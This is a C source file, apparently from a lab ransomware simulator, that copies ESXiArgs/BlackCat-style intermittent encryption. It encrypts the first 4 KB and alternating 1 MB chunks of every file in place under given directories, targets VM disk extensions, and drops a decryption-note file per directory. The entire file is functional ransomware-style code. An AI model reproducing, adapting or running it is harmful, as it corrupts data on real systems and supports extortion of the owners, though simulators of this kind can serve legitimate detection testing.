/* Lab encryptor with intermittent (partial) encryption and no rename, ESXiArgs/BlackCat style:
 * encrypts the first 4 KB of every file, and for files over 1 MB every other 1 MB chunk after the first,
 * in place (open O_RDWR, pwrite, close). File names stay the same; a note is dropped per directory.
 *   partial [-n HOW_TO_DECRYPT.html] [-x .qcow2,.vmdk] [-d delay_ms] DIR... */
#include "common.h"

#define MB (1024 * 1024)

int main(int argc, char **argv) {
    const char *note = NULL, *extensions = NULL;
    long delay_ms = 0; int opt;
    while ((opt = getopt(argc, argv, "n:x:d:")) != -1) {
        switch (opt) {
        case 'n': note = optarg; break;
        case 'x': extensions = optarg; break;
        case 'd': delay_ms = atol(optarg); break;
        default: fprintf(stderr, "usage: %s [-n note] [-x exts] [-d ms] dir...\n", argv[0]); return 2;
        }
    }
    file_list files = {0};
    for (int i = optind; i < argc; i++) walk(argv[i], extensions, NULL, note, &files);
    qsort(files.paths, files.n, sizeof(char *), cmp_str);
    ks_seed();
    for (size_t i = 0; i < files.n; i++) {
        int fd = open(files.paths[i], O_RDWR);
        if (fd < 0) continue;
        struct stat st;
        if (fstat(fd, &st) == 0) {
            xor_range(fd, 0, st.st_size < 4096 ? (size_t)st.st_size : 4096);
            for (off_t off = 2 * (off_t)MB; off < st.st_size; off += 2 * (off_t)MB)
                xor_range(fd, off, (size_t)(st.st_size - off < MB ? st.st_size - off : MB));
        }
        close(fd);
        note_for(files.paths[i], note, NULL);
        sleep_ms(delay_ms);
    }
    return 0;
}
